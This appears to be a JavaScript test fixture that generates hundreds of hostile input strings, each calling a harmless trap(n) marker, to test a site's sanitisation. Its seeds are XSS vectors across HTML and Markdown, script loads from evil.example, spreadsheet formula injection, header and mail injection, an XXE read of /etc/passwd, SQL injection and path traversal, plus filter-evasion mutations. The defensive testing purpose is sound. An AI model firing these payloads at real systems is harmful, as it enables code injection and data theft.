// Hostile texts: what is tried in every field, against every way out. Each calls trap(n) if it ever runs, or breaks a reader that
// trusts it. Seeds by what they attack; each is then dressed in the ways that have fooled filters.
const seeds = [
	// markup
	'<script>TRAP</script>', '<script src=//evil.example/x.js></script>', '<img src=x onerror=TRAP>', '<svg onload=TRAP>', '<svg><script>TRAP</script></svg>',
	'<body onload=TRAP>', '<iframe src="javascript:TRAP"></iframe>', '<iframe srcdoc="<script>parent.TRAP</script>"></iframe>', '<math href="javascript:TRAP">x</math>',
	'<details open ontoggle=TRAP>x</details>', '<input autofocus onfocus=TRAP>', '<video><source onerror=TRAP></video>', '<object data="javascript:TRAP"></object>',
	'<embed src="javascript:TRAP">', '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:TRAP">', '<link rel=stylesheet href=//evil.example/x.css>',
	'<style>@import "//evil.example/x.css"</style>', '<form action="javascript:TRAP"><button>x</button></form>', '<a href="javascript:TRAP">x</a>',
	'<a href="data:text/html,<script>TRAP</script>">x</a>', '<template><script>TRAP</script></template>', '<noscript><p title="</noscript><img src=x onerror=TRAP>">',
	'<!--><img src=x onerror=TRAP>-->', '<![CDATA[<img src=x onerror=TRAP>]]>', '<textarea></textarea><script>TRAP</script>', '<title></title><script>TRAP</script>',
	'<xmp></xmp><script>TRAP</script>', '<marquee onstart=TRAP>x</marquee>', '<table background="javascript:TRAP"><td>x</table>', '<isindex type=image src=1 onerror=TRAP>',
	// out of an attribute, out of a script, out of a comment
	'"><script>TRAP</script>', "'><script>TRAP</script>", '" onmouseover="TRAP', "' autofocus onfocus='TRAP", '`-TRAP-`', '"-TRAP-"', "';TRAP;//", '</script><script>TRAP</script>',
	'</textarea><script>TRAP</script>', '</title><script>TRAP</script>', '--><script>TRAP</script>', ']]><script>TRAP</script>', '${TRAP}', '{{constructor.constructor("TRAP")()}}', '{{{TRAP}}}', '<%= TRAP %>',
	// Markdown
	'[x](javascript:TRAP)', '[x](JaVaScRiPt:TRAP)', '[x](data:text/html,TRAP)', '![x](x" onerror="TRAP)', '[x]: javascript:TRAP\n\n[x]', '<javascript:TRAP>', '[x](\u0001javascript:TRAP)',
	'[x](vbscript:TRAP)', '<a onclick=TRAP>x</a>', '```\n</code></pre><script>TRAP</script>\n```', '[x](//evil.example)', '| a |\n|---|\n| <img src=x onerror=TRAP> |',
	// spreadsheets
	'=HYPERLINK("http://evil.example","x")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=1+1";=2+2', ';=1+1', '"=1+1',
	// headers, mail, JSON, XML, SQL, paths
	'x\r\nBcc: victime@evil.example', 'x\nSet-Cookie: session=1', 'x%0d%0aLocation: //evil.example', '=?utf-8?q?=0d=0aBcc:=20v=40evil.example?=', 'x\r\n\r\n<script>TRAP</script>',
	'\\u003cscript\\u003eTRAP\\u003c/script\\u003e', '","@type":"x","y":"', '}]}', '</item><script>TRAP</script>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '&lt;script&gt;TRAP&lt;/script&gt;',
	'&#60;script&#62;TRAP&#60;/script&#62;', "'; drop table sheet; --", "' or '1'='1", "1); select pg_sleep(5); --", '$$; select 1; $$', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%s%n%x', '%00',
	// letters
	'\u202E<script>TRAP</script>', '\uFEFF<script>TRAP</script>', '＜script＞TRAP＜/script＞', '<scrіpt>TRAP</scrіpt>', '\u2028TRAP\u2029', '<\u200Bscript>TRAP</script>', '𝕏'.repeat(30), 'é'.repeat(60), 'a'.repeat(180),
	'<s\u0131cript>TRAP</s\u0131cript>', '\u0085<img src=x onerror=TRAP>',
];
const dress = [
	s => s,
	s => s.replace(/script/gi, 'ScRiPt').replace(/onerror|onload/gi, m => m.toUpperCase()),
	s => s.replace(/<(\w)/g, '<\u000c$1').replace(/ /g, '/'),
	s => s.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
	s => s + '<!--',
	s => '<div>' + s + '</div>',
	s => '"' + s + '\'>',
	s => s.replace(/javascript:/gi, 'java\tscript:').replace(/TRAP/g, 'TRAP//'),
];
const control = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g;

// At least 500, all different. n is the number trap() is given.
export const payloads = (() => {
	const all = new Map();
	for (const d of dress) for (const s of seeds) {
		const text = d(s);
		if (!all.has(text)) all.set(text, all.size);
	}
	return [...all.keys()].slice(0, 520).map((s, n) => s.replace(/TRAP/g, `trap(${n})`));
})();
// What the site may take: control characters are refused as such, which is asked apart.
export const clean = s => s.replace(control, ' ');
